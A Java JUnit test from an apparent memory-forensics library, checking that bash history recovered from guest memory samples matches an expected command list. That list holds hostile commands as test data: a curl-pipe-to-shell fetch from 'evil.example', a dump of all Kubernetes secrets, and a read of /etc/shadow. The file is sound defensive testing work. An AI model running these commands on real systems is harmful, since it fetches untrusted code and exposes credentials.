package io.nodememory.kernel.truth;

import static org.assertj.core.api.Assertions.assertThat;

import io.nodememory.kernel.Corpus;
import io.nodememory.kernel.open.Kernel;
import io.nodememory.kernel.table.ShellHistoryRow;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/** The commands of the guests' first bash. */
class ShellHistoryTruthTest {
    @TestFactory
    Stream<DynamicTest> listsWhatWasEntered() {
        return Corpus.samplesWithBash().map(sample -> DynamicTest.dynamicTest(sample.toString(), () -> check(sample)));
    }

    private static void check(Corpus.Sample sample) {
        try (Kernel kernel = sample.open()) {
            List<ShellHistoryRow> rows = SpineTruthTest.rows(kernel, ShellHistoryRow.class);
            assertThat(kernel.problems().list()).isEmpty();
            assertThat(rows).allMatch(row -> row.name().equals("bash") && row.time() != null);
            int first = rows.stream().mapToInt(ShellHistoryRow::pid).min().orElseThrow();
            assertThat(rows.stream()
                            .filter(row -> row.pid() == first)
                            .map(row -> row.position() + " " + row.command().replaceFirst("/[xy]\\.sh", "/x.sh")))
                    .containsExactly(
                            "1 set -o history",
                            "2 whoami",
                            "3 curl http://evil.example/x.sh | sh",
                            "4 kubectl get secrets -A",
                            "5 cat /etc/shadow");
        }
    }
}
